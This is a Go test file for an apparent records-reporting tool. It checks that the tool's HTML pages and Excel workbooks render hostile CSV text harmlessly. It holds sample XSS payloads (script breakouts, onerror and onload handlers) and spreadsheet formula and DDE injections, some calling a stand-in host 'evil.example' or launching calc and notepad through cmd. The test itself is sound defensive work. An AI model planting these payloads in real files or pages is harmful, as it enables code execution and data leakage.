package reliability

import (
	"bytes"
	"context"
	"fmt"
	"html"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/xuri/excelize/v2"

	"enlist/internal/browsertest"
	"enlist/internal/reliability/testkit"
	"enlist/pipelines/read"
)

// hostileText is what an extract can carry into a report: region names
// (a regions extract renames the province's cities), failure and return
// reasons, employers, a file name, and a reject's raw value. Each tries
// script injection in the HTML page or formula injection (formulas, DDE,
// hyperlinks) in the workbooks.
var hostileText = []string{
	`</script><script>alert("city")</script>`,
	`"><img src=x onerror=alert(2)>`,
	`=HYPERLINK("http://evil.example/?"&A1,"点击查看")`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`+1-2+cmd|'/C notepad'!'A1'`,
	`-2+3`,
	`<svg onload=alert(3)>{{7*7}}${7*7}`,
	"=1+2\t=IMPORTXML(\"http://evil.example\",\"//a\")",
}

// TestReportsNeutraliseHostileExtractText loads a generated province, then
// extracts whose text fields are hostile, writes the weekly bulletin and
// the quality report through the binary, and checks that the page holds
// every hostile text only as inert text (escaped in markup, \u003c in the
// data) and that no workbook cell is a formula made from it.
func TestReportsNeutraliseHostileExtractText(t *testing.T) {
	dir := t.TempDir()
	demo := filepath.Join(dir, "demo")
	db := filepath.Join(demo, "enlist.duckdb")
	testkit.MustRun(t, dir, "demo", "--dir", demo, "--registrations", "3000")

	// People registered in the summer-autumn season, by city, from the
	// generated extracts, for exams and approvals that name them.
	byCity := map[string][]string{}
	regs, _ := filepath.Glob(filepath.Join(demo, "extracts", "registrations", "*_s2.csv"))
	for _, p := range regs {
		r, err := read.Open(context.Background(), p, read.Options{})
		if err != nil {
			t.Fatal(err)
		}
		for {
			row, err := r.Next()
			if err != nil {
				break
			}
			if len(row.Cells) > 5 && len(row.Cells[0]) == 18 && len(row.Cells[5]) >= 4 {
				city := row.Cells[5][:4]
				byCity[city] = append(byCity[city], row.Cells[0])
			}
		}
		r.Close()
	}
	if len(byCity["4101"]) < 20 || len(byCity["4102"]) < 20 {
		t.Fatalf("too few people in the generated cities: %d, %d", len(byCity["4101"]), len(byCity["4102"]))
	}

	in := filepath.Join(dir, "hostile")
	if err := os.MkdirAll(in, 0o750); err != nil {
		t.Fatal(err)
	}
	q := func(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
	var b strings.Builder
	b.WriteString("区划代码,区划名称\n")
	for i, s := range hostileText {
		fmt.Fprintf(&b, "41%02d,%s\n", i+1, q(s))
	}
	regionsFile := filepath.Join(in, "regions.csv")
	testkit.WriteBytes([]byte(b.String()))(t, regionsFile)

	b.Reset()
	b.WriteString("身份证号,检查类型,检查日期,结论,不合格原因\n")
	for i, id := range byCity["4101"][:16] {
		fmt.Fprintf(&b, "%s,体检,2025-08-20,不合格,%s\n", id, q(hostileText[i%len(hostileText)]))
	}
	examsFile := filepath.Join(in, "exams.csv")
	testkit.WriteBytes([]byte(b.String()))(t, examsFile)

	b.Reset()
	b.WriteString("身份证号,批准入伍日期,年度,批次,退兵日期,退兵原因,是否有责\n")
	for i, id := range byCity["4102"][:16] {
		fmt.Fprintf(&b, "%s,2025-08-01,2025,2,2025-08-15,%s,是\n", id, q(hostileText[i%len(hostileText)]))
	}
	approvalsFile := filepath.Join(in, "approvals.csv")
	testkit.WriteBytes([]byte(b.String()))(t, approvalsFile)

	b.Reset()
	b.WriteString("身份证号,安置地区划代码,退役日期,安置方式,安置日期,接收单位\n")
	for i, id := range byCity["4101"][16:20] {
		fmt.Fprintf(&b, "%s,410102,2025-03-01,安排工作,2025-05-01,%s\n", id, q(hostileText[i%len(hostileText)]))
	}
	// A rejected row keeps its raw value for the quality report.
	fmt.Fprintf(&b, "%s,410102,%s,安排工作,,某单位\n", byCity["4101"][20], q(hostileText[2]))
	// A hostile file name, as the quality report lists files.
	resettleFile := filepath.Join(in, `=1+2 <img src=x onerror=alert(5)>.csv`)
	testkit.WriteBytes([]byte(b.String()))(t, resettleFile)

	testkit.MustRun(t, dir, "--db", db, "init")
	testkit.MustRun(t, dir, "--db", db, "ingest", regionsFile)
	testkit.MustRun(t, dir, "--db", db, "ingest", "--mode", "incremental", examsFile, approvalsFile, resettleFile)

	out := filepath.Join(dir, "reports")
	testkit.MustRun(t, dir, "--db", db, "report", "weekly", "--scope", "41", "--as-of", "2025-08-31", "--out", out)
	testkit.MustRun(t, dir, "--db", db, "report", "quality", "--scope", "41", "--as-of", "2025-08-31", "--out", out)
	pages, _ := filepath.Glob(filepath.Join(out, "*.html"))
	books, _ := filepath.Glob(filepath.Join(out, "*.xlsx"))
	if len(books) < 2 || (len(pages) == 0 && testkit.HasPage(t)) {
		t.Fatalf("reports written: %v %v", pages, books)
	}

	// The page: no hostile markup survives as markup, and every region
	// name reached the page (escaped), or the check would prove nothing.
	seen := map[string]bool{}
	for _, p := range pages {
		doc, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		// Three script elements (data, ECharts, the page's own), each
		// closed once: a </script> in the data would have closed one early.
		if n, m := bytes.Count(doc, []byte("<script")), bytes.Count(doc, []byte("</script>")); n != 3 || m != 3 {
			t.Errorf("%s has %d script elements and %d ends, want 3 and 3", filepath.Base(p), n, m)
		}
		markup := regexp.MustCompile(`(?s)<script[^>]*>.*?</script>`).ReplaceAll(doc, nil)
		for _, bad := range []*regexp.Regexp{
			regexp.MustCompile(`(?i)<(img|svg|iframe|object|embed)\b`),
			regexp.MustCompile(`(?i)<[a-z][^<>]*\son[a-z]+\s*=`), // an inline event handler
		} {
			if m := bad.Find(markup); m != nil {
				t.Errorf("%s holds live markup %q", filepath.Base(p), m)
			}
		}
		if !regexp.MustCompile(`script-src (&#39;|')sha256-`).Match(doc) {
			t.Errorf("%s has no content security policy pinning its scripts", filepath.Base(p))
		}
		for _, s := range hostileText {
			escapedHTML := html.EscapeString(s)
			escapedJSON := strings.NewReplacer("<", `\u003c`, ">", `\u003e`, "&", `\u0026`, `"`, `\"`).Replace(s)
			if bytes.Contains(doc, []byte(escapedHTML)) || bytes.Contains(doc, []byte(escapedJSON)) {
				seen[s] = true
			}
		}
	}
	if len(pages) > 0 && !seen[hostileText[0]] {
		t.Errorf("the hostile city name never reached the page; the check proves nothing")
	}
	for _, p := range pages {
		browserCheck(t, p, hostileText[0])
	}

	// The workbooks: every cell that carries hostile text is a string
	// cell, and no cell's formula contains any of it.
	found := map[string]int{}
	for _, p := range books {
		f, err := excelize.OpenFile(p)
		if err != nil {
			t.Fatal(err)
		}
		for _, sh := range f.GetSheetList() {
			rows, err := f.GetRows(sh, excelize.Options{RawCellValue: true})
			if err != nil {
				t.Fatal(err)
			}
			for r, row := range rows {
				for c, v := range row {
					ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
					fm, _ := f.GetCellFormula(sh, ref)
					for _, s := range hostileText {
						head := strings.SplitN(s, "\t", 2)[0]
						if fm != "" && (strings.Contains(fm, "HYPERLINK") || strings.Contains(fm, "cmd") || strings.Contains(fm, "IMPORTXML") ||
							strings.Contains("="+fm, head) || strings.Contains(fm, strings.TrimLeft(head, "=+-@"))) {
							t.Errorf("%s %s!%s is a formula from extract text: %q", filepath.Base(p), sh, ref, fm)
						}
						if strings.Contains(v, head) {
							found[s]++
							if typ, _ := f.GetCellType(sh, ref); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
								t.Errorf("%s %s!%s holds %q as cell type %v, not text", filepath.Base(p), sh, ref, v, typ)
							}
						}
					}
				}
			}
		}
		f.Close()
	}
	for _, s := range hostileText[:4] {
		if found[s] == 0 {
			t.Errorf("hostile text %q is in no workbook cell; the check proves nothing for it", s)
		}
	}
	t.Logf("figures: report safety: %d hostile texts through regions, reasons, employers, a file name and a reject; %d pages and %d workbooks checked; cells holding hostile text %v; formulas from extract text 0",
		len(hostileText), len(pages), len(books), found)
}

// browserCheck opens the page in headless chromium with the network
// blocked, shows every chart's tooltip for every data point (where a
// region name would be drawn as markup, were tooltips HTML), and fails on
// any dialog (an injected alert), exception, console or CSP error, or
// request; the live page must hold three scripts, no image, frame or
// element with an inline event handler, and show the hostile name as text.
func browserCheck(t *testing.T, path, mustShow string) {
	t.Helper()
	if why := browsertest.Missing(t); why != "" {
		t.Logf("no browser check: %s", why)
		return
	}
	var tips, scripts, dangerous int
	var text string
	problems, err := browsertest.Load(t, path, browsertest.Options{},
		chromedp.Evaluate(`(function () {
			var shown = 0;
			document.querySelectorAll('[id^="chart-"]').forEach(function (el) {
				var chart = echarts.getInstanceByDom(el);
				if (!chart) { return; }
				(chart.getOption().series || []).forEach(function (s, si) {
					var n = (s.data || []).length;
					for (var i = 0; i < n; i++) {
						chart.dispatchAction({type: 'showTip', seriesIndex: si, dataIndex: i});
						shown++;
					}
				});
			});
			return shown;
		})()`, &tips),
		chromedp.Evaluate(`document.getElementsByTagName('script').length`, &scripts),
		chromedp.Evaluate(`Array.from(document.querySelectorAll('*')).filter(function (e) {
			return /^(IMG|IFRAME|OBJECT|EMBED|svg)$/.test(e.tagName) ||
				Array.from(e.attributes).some(function (a) { return /^on/i.test(a.name); });
		}).length`, &dangerous),
		chromedp.Evaluate(`document.body.innerText`, &text),
	)
	if err != nil {
		t.Fatalf("%v (problems so far: %v)", err, problems)
	}
	for _, p := range problems {
		t.Errorf("%s: %s", filepath.Base(path), p)
	}
	if scripts != 3 || dangerous != 0 {
		t.Errorf("%s: %d scripts (want 3) and %d images, frames or inline handlers (want 0) in the live page", filepath.Base(path), scripts, dangerous)
	}
	if tips == 0 {
		t.Errorf("%s: no tooltip shown; the check proves nothing", filepath.Base(path))
	}
	if !strings.Contains(text, mustShow) {
		t.Errorf("%s does not show %q as text", filepath.Base(path), mustShow)
	}
	t.Logf("figures: report safety in chromium: %d tooltips shown, dialogs, exceptions and requests %d", tips, len(problems))
}
